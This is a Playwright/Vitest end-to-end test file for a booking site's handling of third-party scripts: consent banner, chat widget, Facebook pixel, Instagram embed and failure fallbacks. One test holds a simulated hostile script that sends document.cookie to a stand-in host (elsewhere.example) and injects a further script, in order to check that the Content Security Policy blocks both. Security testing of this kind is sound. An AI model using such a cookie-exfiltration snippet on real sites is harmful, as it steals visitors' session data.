// @module-tag browser
import type { BrowserContextOptions, Page } from 'playwright-core';
import { beforeEach, describe, expect, it } from 'vitest';
import { goTo, realBrowser, reload } from '../support/browser.ts';
import { customerSteps } from '../support/customer-steps.ts';
import { daysOnSale } from '../support/nights-on-sale.ts';
import { runningSite } from '../support/site.ts';
import { chatScript, pixelScript, thirdPartyHosts } from '../support/third-party-hosts.ts';

const site = await runningSite();
const { origin, fixtures } = site;
const browser = await realBrowser();
const within = { timeout: 60_000, interval: 50 };
const facebook = 'www.facebook.com';

const everything = {
  chat_widget_url: 'https://chat.example/w.js',
  pixel_id: '1234567890',
  instagram_url: 'https://www.instagram.com/p/abc/',
  third_party_consent: 'ask',
};
const settings = async (rows: Partial<Record<keyof typeof everything, string>>) => {
  for (const key of Object.keys(everything)) await fixtures.setting(key, rows[key as never] ?? '');
};
const scripts = { 'chat.example': chatScript, 'connect.facebook.net': pixelScript };

async function visitor(
  options: Parameters<typeof thirdPartyHosts>[1] = { scripts },
  more: BrowserContextOptions = {},
) {
  const page = await browser.page('phone', more);
  const hosts = await thirdPartyHosts(page.context(), options);
  const warnings: string[] = [];
  page.on('console', (message) => message.type() === 'warning' && warnings.push(message.text()));
  return { page, hosts, warnings };
}

const banner = (page: Page) => page.getByRole('region', { name: /May we|¿Podemos/ });
const pageViews = (calls: readonly string[]) => calls.filter((call) => call.includes('PageView'));
/** Long enough for scripts that load after 3 s. */
const theChatWouldBeHere = (page: Page) => page.waitForFunction(() => performance.now() > 3_600);

beforeEach(() => settings(everything));

describe('If consent is required', () => {
  it.each([
    ['', { width: 390, height: 844 }],
    ['/es', { width: 390, height: 844 }],
    ['', { width: 1280, height: 800 }],
    ['/es', { width: 1280, height: 800 }],
  ])('the banner leaves the first night and the button free, at %s/ with %o', async (language, viewport) => {
    const { page } = await visitor();
    await page.setViewportSize(viewport);
    await goTo(page, `${origin}${language}/`);
    await banner(page).waitFor();
    const covering = (await banner(page).boundingBox())!;
    const hero = page.locator('main section:has(h1)');
    for (const control of [hero.locator('li a').first(), hero.locator('[href*=book]').last()]) {
      const box = (await control.boundingBox())!;
      const isBeside = box.x + box.width <= covering.x || covering.x + covering.width <= box.x;
      expect(isBeside || box.y + box.height <= covering.y, await control.innerText()).toBe(true);
    }
  });

  it('nothing is loaded before consent or after a refusal; the choice is stored', async () => {
    const { page, hosts } = await visitor();
    await goTo(page, origin);
    await banner(page).waitFor();
    await page.keyboard.press('Tab');
    await theChatWouldBeHere(page);
    const boxes = await Promise.all(
      ['No, thanks', 'Yes, allow'].map((name) => banner(page).getByRole('button', { name }).boundingBox()),
    );
    expect(boxes[0]?.width).toBe(boxes[1]?.width);
    expect(boxes[0]?.height).toBeGreaterThanOrEqual(44);
    await banner(page).getByRole('button', { name: 'No, thanks' }).click();
    await banner(page).waitFor({ state: 'detached' });
    await goTo(page, `${origin}/faq`);
    await theChatWouldBeHere(page);
    expect(await banner(page).count()).toBe(0);
    expect(hosts.asked).toEqual([]);
    await page.context().close();
  });

  it('consent loads the chat and the pixel, each once; the footer withdraws it', async () => {
    const { page, hosts } = await visitor();
    await goTo(page, `${origin}/es`);
    await banner(page).getByRole('button', { name: 'Sí, permitir' }).click();
    await page.locator('#chat').waitFor();
    await expect.poll(() => pageViews(hosts.of(facebook)), within).toHaveLength(1);
    await page.locator('footer a[href="/es/terms"]').click();
    await page
      .getByRole('heading', { level: 1 })
      .filter({ hasText: /érminos/ })
      .waitFor();
    await expect.poll(() => pageViews(hosts.of(facebook)), within).toHaveLength(2);
    expect(hosts.of('chat.example')).toEqual(['/w.js']);
    expect(hosts.of('connect.facebook.net')).toHaveLength(1);
    expect(hosts.of(facebook).join()).toContain(encodeURIComponent('["init","1234567890"]'));

    await page.getByRole('button', { name: 'Opciones de privacidad' }).click();
    await expect.poll(() => page.evaluate(() => document.activeElement?.tagName), within).toBe('SECTION');
    await Promise.all([
      page.waitForEvent('load'),
      banner(page).getByRole('button', { name: 'No, gracias' }).click(),
    ]);
    await page.locator('main h1').waitFor();
    await theChatWouldBeHere(page);
    expect(await page.locator('#chat').count()).toBe(0);
    expect(hosts.of('chat.example')).toHaveLength(1);
    await page.context().close();
  });

  it('a cached page is the same with and without consent', async () => {
    const bodyFor = async (cookie: string) => (await fetch(origin, { headers: { cookie } })).text();
    for (let visit = 0; visit < 2; visit++) await bodyFor('');
    const [one, other] = [await bodyFor('third_parties=yes'), await bodyFor('third_parties=no')];
    expect(one).toBe(other);
    expect(one).not.toContain('facebook.com/tr');
  });
});

describe('If no consent is required', () => {
  beforeEach(() => settings({ ...everything, third_party_consent: 'not_needed' }));

  it.each([
    ['the first key', (page: Page) => page.keyboard.press('Tab')],
    ['the first press', (page: Page) => page.mouse.click(5, 300)],
  ])('the chat loads at %s, once', async (_sign, gives) => {
    const { page, hosts } = await visitor();
    // The page's clock is stopped, so that nothing loads because of the 3 s.
    await page.clock.install();
    await page.clock.pauseAt(Date.now() + 1_000);
    const opened = goTo(page, `${origin}/about`);
    await page.waitForEvent('load');
    // One frame, after which scripts start.
    await page.clock.runFor(100);
    await opened;
    await expect.poll(() => pageViews(hosts.of(facebook)), within).toHaveLength(1);
    expect(hosts.of('chat.example')).toEqual([]);
    await gives(page);
    await page.locator('#chat').waitFor();
    await gives(page);
    await page.clock.runFor(3_600);
    expect(await page.locator('script[src*="chat.example"]').count()).toBe(1);
    expect(hosts.of('chat.example')).toHaveLength(1);
    await page.context().close();
  });

  it('or after 3 seconds', async () => {
    const { page } = await visitor();
    await goTo(page, `${origin}/terms`);
    await page.locator('#chat').waitFor({ timeout: 60_000 });
    expect(await page.evaluate(() => performance.now())).toBeGreaterThan(3_000);
    await page.context().close();
  });

  it('a browser without JavaScript reports the page to the pixel by an image with its id', async () => {
    const { page, hosts } = await visitor({}, { javaScriptEnabled: false });
    await goTo(page, origin, { waitUntil: 'networkidle' });
    expect(hosts.of(facebook)).toEqual(['/tr?id=1234567890&ev=PageView&noscript=1']);
    await page.context().close();
  });

  it('the pixel gets a started checkout and a purchase, once, with only the reference', async () => {
    const { page, hosts } = await visitor();
    const night = await fixtures.night({ price: 3500 });
    const guest = customerSteps(site, page);
    await guest.opensNight(night);
    await expect.poll(() => hosts.of(facebook), within).toHaveLength(1);
    await guest.fillsIn();
    await guest.continuesToPay();
    await guest.presses('pay');
    await guest.sees('You’re in!');
    const reference = await guest.reference();
    await expect.poll(() => hosts.of(facebook), within).toHaveLength(2);
    await reload(page);
    await guest.sees('You’re in!');
    await page.locator('[data-testid=reference]').waitFor();
    await theChatWouldBeHere(page);
    const call = hosts
      .of(facebook)
      .map((path) => Object.fromEntries(new URL(path, 'https://x').searchParams));
    expect(call).toEqual([
      { id: '1234567890', ev: 'InitiateCheckout', eid: night, noscript: '1' },
      {
        id: '1234567890',
        ev: 'Purchase',
        eid: reference,
        noscript: '1',
        'cd[value]': '70.00',
        'cd[currency]': 'USD',
      },
    ]);
    expect(hosts.asked.map(({ referrer }) => referrer)).toEqual(['', '']);
    expect(hosts.asked.map(({ url }) => url.host)).toEqual([facebook, facebook]);
    await page.context().close();
  });

  it('no third-party script runs on the pages of the account or the checkout', async () => {
    const { page } = await visitor();
    await page.setViewportSize({ width: 1280, height: 900 });
    await goTo(page, `${origin}/faq`);
    await page.keyboard.press('Tab');
    await page.locator('#chat').waitFor();
    await page.locator('a[href="/login"]:visible').first().click();
    await page.locator('input[type=password]').waitFor();
    await theChatWouldBeHere(page);
    expect(await page.evaluate(() => 'chats' in window || 'fbq' in window)).toBe(false);
    await page.context().close();
  });
});

describe('Instagram', () => {
  it('is requested only after the button is pressed, and once', async () => {
    const { page, hosts } = await visitor({
      scripts: { 'www.instagram.com': `document.querySelector('.instagram-media').textContent = 'The post'` },
    });
    await goTo(page, origin, { waitUntil: 'networkidle' });
    expect(hosts.asked).toEqual([]);
    await page.getByRole('button', { name: 'Show it here' }).click();
    await page.getByText('The post').waitFor();
    expect(hosts.of('www.instagram.com')).toEqual(['/embed.js']);
    await page.context().close();
  });
});

describe('Faulty third-party scripts', () => {
  beforeEach(() => settings({ ...everything, third_party_consent: 'not_needed' }));

  it('that are blocked: the page works, a night can be booked, and a warning is logged', async () => {
    browser.causes(/ERR_|status of 500|Content Security Policy/);
    const { page, warnings } = await visitor({ down: true });
    await goTo(page, origin);
    await page.keyboard.press('Tab');
    await expect.poll(() => warnings, within).toContain('The chat could not be loaded.');
    await expect.poll(() => warnings, within).toContain('The pixel could not be loaded.');
    await page.getByRole('button', { name: 'Show it here' }).click();
    await page.getByText('Instagram did not load here.').waitFor();
    const guest = customerSteps(site, page);
    await guest.opensNight(await fixtures.night());
    await guest.fillsIn();
    await guest.getsHold();
    await page.context().close();
  });

  it('that are not configured are skipped with a warning', async () => {
    browser.causes(/ERR_|status of 500|Content Security Policy/);
    const { page, hosts, warnings } = await visitor();
    await page.context().route('**/api/pixel-config', (route) => route.fulfill({ status: 500, body: '' }));
    await goTo(page, `${origin}/faq`);
    await expect
      .poll(() => warnings, within)
      .toContain('The pixel has no configuration: tracking is skipped.');
    expect(hosts.of(facebook)).toEqual([]);
    await page.context().close();
  });

  it('that are hostile within the policy throw, log and send more requests, and the page still works', async () => {
    browser.causes(/./);
    const hostile = `
      setInterval(() => { throw new Error('hostile') }, 50);
      console.log(document.cookie);
      window.seen = document.cookie;
      const further = document.createElement('script');
      further.src = 'https://elsewhere.example/more.js';
      document.body.append(further);
      fetch('https://elsewhere.example/stolen?' + document.cookie).catch(() => {});
      new Image().src = 'https://elsewhere.example/stolen.gif';
      const frame = document.createElement('iframe');
      frame.src = 'https://elsewhere.example/';
      document.body.append(frame);
      throw new Error('hostile');`;
    const { page, hosts } = await visitor({ scripts: { 'chat.example': hostile } });
    // Only the policy of a cached page lists all scripts; the first one trusts those that its own scripts add.
    const isCached = (headers: Record<string, string>) =>
      !headers['content-security-policy']?.includes('strict-dynamic');
    await expect.poll(async () => isCached((await page.request.get(origin)).headers())).toBe(true);
    expect(isCached((await goTo(page, origin))!.headers())).toBe(true);
    await page.keyboard.press('Tab');
    await page.waitForFunction(() => 'seen' in window);
    await page.locator('#booking').scrollIntoViewIfNeeded();
    await daysOnSale(page.locator('#booking')).first().click();
    // In the calendar's section, since the header has a link of this name before the night is shown.
    const ticket = page.locator('#booking').getByRole('link', { name: 'Book Now', exact: true });
    await ticket.first().click();
    await page.waitForURL(/\/checkout/);
    await page.locator('form#checkout[data-hydrated]').waitFor();
    expect(hosts.of('elsewhere.example')).toEqual([]);
    expect(await page.evaluate(() => 'seen' in window)).toBe(false);
    await page.context().close();
  });
});

describe('The call of specification §7', () => {
  it.each(['GET', 'POST'])('%s /api/pixel-config returns the id and no secret', async (method) => {
    await fixtures.setting('pixel_access_token', 'a secret');
    const answer = await fetch(`${origin}/api/pixel-config`, { method, headers: { origin } });
    expect(await answer.json()).toEqual({ pixelId: '1234567890' });
    for (const path of ['/api/settings', '/', '/faq'])
      expect(await (await fetch(origin + path)).text()).not.toContain('a secret');
  });
});
